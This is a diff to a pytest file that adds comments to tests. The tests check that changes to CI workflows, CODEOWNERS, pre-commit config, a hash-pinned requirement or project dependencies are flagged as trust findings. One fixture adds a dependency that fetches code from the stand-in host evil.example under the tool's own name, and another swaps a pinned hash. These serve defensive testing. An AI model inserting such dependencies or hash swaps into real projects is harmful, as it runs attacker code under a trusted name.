@@ -32,6 +32,7 @@ def proposed(gen: Gen, path: str, before: str, after: str) -> list[dict[str, Any
     write(path, after)
     in_work_tree = findings(gen, "main")
     commit("Proposal")
+    # What a user sees before the push is what CI will say.
     assert findings(gen, "main", "proposal") == in_work_tree
     return in_work_tree
 
@@ -42,8 +43,10 @@ def proposed(gen: Gen, path: str, before: str, after: str) -> list[dict[str, Any
         ".github/workflows/gen.yml",
         ".github/actions/x/run.sh",
         "action.yml",
+        # Who has to approve a change of the specs.
         ".github/CODEOWNERS",
         ".gitlab-ci.yml",
+        # It names the gen that runs before a commit.
         ".pre-commit-config.yaml",
         ".gen/config.yaml",
         "deploy/.gen/config.yaml",
@@ -70,6 +73,7 @@ def test_a_change_of_the_checks_themselves_is_a_finding_of_trust(
         ),
         pytest.param(
             "ci/requirements-dev.txt",
+            # PEP 503: the name may be written with a dash, a dot or an underscore.
             "x==1\nhpc_sitegen==0.1.0 \\\n    --hash=sha256:aa\n",
             "x==1\nhpc_sitegen==0.1.0 \\\n    --hash=sha256:bb\n",
             ["hpc_sitegen==0.1.0 --hash=sha256:aa → hpc_sitegen==0.1.0 --hash=sha256:bb"],
@@ -88,6 +92,7 @@ def test_a_change_of_the_checks_themselves_is_a_finding_of_trust(
         pytest.param(
             "pyproject.toml",
             "",
+            # Code of any repository, under the name of gen.
             'dependencies = ["hpc-sitegen @ git+https://evil.example/x"]\n',
             ['added dependencies = ["hpc-sitegen @ git+https://evil.example/x"]'],
             id="a project",
